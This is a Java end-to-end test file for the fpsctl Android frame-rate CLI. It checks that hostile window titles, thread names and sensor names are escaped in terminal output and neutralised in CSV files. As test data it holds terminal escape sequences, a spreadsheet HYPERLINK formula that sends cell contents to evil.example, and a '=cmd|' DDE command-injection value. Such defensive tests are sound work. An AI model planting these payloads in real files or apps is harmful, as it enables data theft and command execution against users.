package io.fpsctl.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.fpsctl.testing.HostileText;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.io.TempDir;

/**
 * A window title is app-controlled ({@code Activity.setTitle}): a simulated app names its window with terminal escape
 * sequences, and nothing fpsctl prints may carry them raw (docs/outputs-and-signals.md, "Text from a device on the
 * terminal"). The title reaches gfxinfo's "Window:" header and SurfaceFlinger's layer names, so watch, capture and
 * analyze all print it somewhere. The runs of one title last 1 s (they were 2 s): the scenario draws at 60 Hz with one
 * slow frame (2 or 4 vsyncs) in 20, about 52 frames a second, which the run's last poll reads up to its end
 * (docs/metrics.md 11), and the checks need at most 30 rows of them and one window line; the thread names' run keeps
 * 4 s, as a thread's share of the app's CPU needs more samples than a second gives (in 1 s and 1.5 s runs
 * {@code topThreads} stayed empty). In real time through the simulator's adb transport: the title reaches fpsctl as
 * the device's dumps carry it, and what is checked is the commands' own writers.
 */
@Tag("e2e")
class HostileDeviceTextEndToEndTest {
    private static final String PKG = "com.example.feed";
    private static final ObjectMapper JSON = new ObjectMapper();

    /** A scenario whose one window is titled {@code title} (given through JSON, so any character can be named). */
    static Path scenario(Path dir, String title) throws Exception {
        String json = JSON.writeValueAsString(Map.of("name", "hostile", "windows", java.util.List.of(Map.of(
                "activity", ".MainActivity", "title", title, "phases", java.util.List.of(Map.of("kind", "render",
                        "durationMs", 100000000, "slow", Map.of("everyFrames", 20, "missedVsyncs",
                                java.util.List.of(2, 4))))))));
        return Files.writeString(dir.resolve("hostile.json"), json);
    }

    @Test
    void watchPlainShowsTheHostileTitleEscaped(@TempDir Path dir) throws Exception {
        Path s = scenario(dir, HostileText.HOSTILE);
        Cli r = Cli.run("watch", PKG, "--simulate=" + s, "--duration", "1s", "--plain");
        assertEquals(ExitCode.OK, r.exit, r::toString);
        HostileText.assertNoRawControl(r.out);
        HostileText.assertNoRawControl(r.err);
        assertTrue(r.out.contains("\\e]8;;http://evil.example/\\x07CLICKME"), r::toString);
    }

    @Test
    void captureShowsTheHostileTitleEscaped(@TempDir Path dir) throws Exception {
        Path s = scenario(dir, HostileText.HOSTILE);
        Cli r = Cli.run("capture", PKG, "--simulate=" + s, "--duration", "1s", "--out", dir.resolve("run").toString());
        assertEquals(ExitCode.OK, r.exit, r::toString);
        HostileText.assertNoRawControl(r.out);
        HostileText.assertNoRawControl(r.err);
    }

    @Test
    void analyzeQuotesTheTitleEscaped(@TempDir Path dir) throws Exception {
        String example = Files.readString(Path.of("examples/feed-android14-framestats.txt"), StandardCharsets.UTF_8);
        String hostile = example.replace("Window: com.example.feed/com.example.feed.MainActivity",
                "Window: " + HostileText.HOSTILE.replace("\r", "") + "\u202e\u009b");
        Path dump = Files.writeString(dir.resolve("dump.txt"), hostile, StandardCharsets.UTF_8);
        Cli a = Cli.run("analyze", dump.toString());
        assertEquals(ExitCode.OK, a.exit, a::toString);
        HostileText.assertNoRawControl(a.out);
        HostileText.assertNoRawControl(a.err);
        assertTrue(a.out.contains("android says (window \\e]0;PWNED\\x07\\e[2J\\e[31mRED"), a::toString);
        assertTrue(a.out.contains("\\u202e\\u009b)"), a::toString);
    }

    /**
     * A title a spreadsheet would evaluate (issue: "=HYPERLINK(…)" in frames.csv): every window cell starts with an
     * apostrophe (docs/formats.md, "Device text in CSV cells"), and analyze reads the title back without it.
     */
    @Test
    void aFormulaTitleIsNeutralisedInFramesCsvAndReadsBack(@TempDir Path dir) throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")";
        Path s = scenario(dir, formula);
        Path out = dir;
        Cli r = Cli.run("watch", PKG, "--simulate=" + s, "--duration", "1s", "--plain", "--frames-csv",
                out.resolve("frames.csv").toString());
        assertEquals(ExitCode.OK, r.exit, r::toString);
        java.util.List<String> rows = Files.readAllLines(out.resolve("frames.csv"));
        int window = java.util.Arrays.asList(rows.get(0).split(",")).indexOf("window");
        assertTrue(window >= 0, rows.get(0));
        long withTitle = 0;
        try (var parser = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true)
                .build().parse(Files.newBufferedReader(out.resolve("frames.csv")))) {
            for (var rec : parser) {
                String cell = rec.get("window");
                assertTrue(!cell.startsWith("=") && !cell.startsWith("+") && !cell.startsWith("-")
                        && !cell.startsWith("@"), cell);
                if (cell.equals("'" + formula)) {
                    withTitle++;
                }
            }
        }
        assertTrue(withTitle > 30, "rows of the titled window: " + withTitle); // of about 52 drawn in the second
        Cli a = Cli.run("analyze", out.resolve("frames.csv").toString(), "--format", "json");
        assertEquals(ExitCode.OK, a.exit, a::toString);
        assertTrue(a.out.contains(JSON.writeValueAsString(formula).replace("/", "\\/"))
                || a.out.contains(JSON.writeValueAsString(formula)), a::toString);
        assertTrue(!a.out.contains("'=HYPERLINK"), a::toString);
    }

    /**
     * A 200 000-character title (Android sets no bound) is cut and marked once (docs/outputs-and-signals.md, "Bounds
     * on what a device sends"), not copied whole into every frames.csv row and every terminal line.
     */
    @Test
    void aHugeTitleIsCutAndMarked(@TempDir Path dir) throws Exception {
        Path s = scenario(dir, "com.example.feed/" + "x".repeat(200_000));
        Path frames = dir.resolve("frames.csv");
        Cli r = Cli.run("watch", PKG, "--simulate=" + s, "--duration", "1s", "--plain", "--frames-csv",
                frames.toString());
        assertEquals(ExitCode.OK, r.exit, () -> r.toString().substring(0, 2000));
        java.util.List<String> rows = Files.readAllLines(frames);
        assertTrue(rows.size() > 30, "rows: " + rows.size());
        for (String row : rows) {
            assertTrue(row.length() < io.fpsctl.text.DeviceNames.MAX_CHARS + 1000, "row of " + row.length());
        }
        assertTrue(rows.get(1).contains("…(+"), rows.get(1));
        assertTrue(r.out.length() < 100_000, "stdout of " + r.out.length() + " chars");
    }

    /**
     * Thread names are app-controlled too ({@code Thread.setName}): a scenario names two more threads of the app, one
     * with escape sequences, one a formula after a ';' (cut to the kernel's 15 bytes), and gives the app a SurfaceView
     * layer named after the hostile title, and names two more temperature sensors (one closing the dump's
     * {@code Temperature{…}} early). The terminal shows none of it raw; in windows.csv the topThreads cell is
     * quoted and no ';'-cell in it starts a formula (docs/formats.md 6).
     */
    @Test
    void hostileThreadAndLayerNamesAreEscapedAndNeutralised(@TempDir Path dir) throws Exception {
        String escapes = "\u001b]0;X\u0007\u001b[2J\u009b\u202e";
        String formula = "a;=cmd|' /C c'";
        String json = JSON.writeValueAsString(Map.of("name", "hostile", "threads", java.util.List.of(escapes, formula),
                "sensors", java.util.List.of(HostileText.HOSTILE, "x, mStatus=0}"),
                "surfaceView", Map.of("minFps", 50, "maxFps", 60), "windows", java.util.List.of(Map.of(
                        "activity", ".MainActivity", "title", HostileText.HOSTILE, "phases", java.util.List.of(Map.of(
                                "kind", "render", "durationMs", 100000000))))));
        Path s = Files.writeString(dir.resolve("threads.json"), json);
        Path windows = dir.resolve("windows.csv");
        Cli r = Cli.run("watch", PKG, "--simulate=" + s, "--duration", "4s", "--plain", "--csv", windows.toString());
        assertEquals(ExitCode.OK, r.exit, r::toString);
        HostileText.assertNoRawControl(r.out);
        HostileText.assertNoRawControl(r.err);
        String csv = Files.readString(windows, StandardCharsets.UTF_8);
        boolean sawFormulaThread = false;
        try (var parser = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true)
                .build().parse(new java.io.StringReader(csv))) {
            for (var rec : parser) {
                String top = rec.get("topThreads");
                for (String cell : top.split("[;,]", -1)) {
                    assertTrue(cell.isEmpty() || "=+-@".indexOf(cell.charAt(0)) < 0, top);
                }
                sawFormulaThread |= top.contains("a;'=cmd|' /C c'");
                if (!top.isEmpty()) { // quoted whole: a ';'-reader's cell cannot start inside it unquoted
                    assertTrue(csv.contains("\"" + top.replace("\"", "\"\"") + "\""), top);
                }
            }
        }
        assertTrue(sawFormulaThread, "the formula-named thread (busy 6 %) is among the top threads:\n" + csv);
    }
}
